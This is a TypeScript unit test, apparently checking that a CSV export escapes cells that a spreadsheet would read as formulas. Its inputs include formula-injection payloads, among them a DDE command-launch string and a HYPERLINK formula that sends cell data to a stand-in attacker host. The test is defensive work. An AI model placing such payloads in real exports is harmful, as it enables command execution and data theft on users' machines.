import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { csvOf } from '../../src/http/csv.ts'
import { HOSTILE_STRINGS } from '../support/hostile-strings.ts'

test('a cell holds any text, and none of it is a formula to a spreadsheet', () => {
  const texts = [
    ...HOSTILE_STRINGS,
    ...['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '\n=1', '\u00a0=1', '\ufeff=1', '\u200b=1'],
    ...['＝1', '＋1', '－1', '＠1', '"=1', `=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.test?"&A1)'],
    ...['a;=1', 'a\t=1', 'a,=1', 'a"\n=1', `a'=1`],
  ].map((text) => text.toWellFormed())
  const csv = csvOf(
    texts.map((text) => ({ first: text, last: text, at: new Date(0), count: -1 })),
    ['first', 'count', 'at', 'last'],
    { header: true },
  )
  const [header, ...records] = parse(csv, { record_delimiter: '\n' }) as string[][]
  assert.deepEqual(header, ['first', 'count', 'at', 'last'])
  assert.equal(records.length, texts.length)
  for (const [place, [first = '', ...others]] of records.entries()) {
    const text = texts[place] ?? ''
    assert.ok(first === text || first === `'${text}`, JSON.stringify([text, first]))
    assert.doesNotMatch(first, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u)
    // A number below zero is one.
    assert.deepEqual(others, ['-1', '1970-01-01T00:00:00.000Z', first])
  }
})
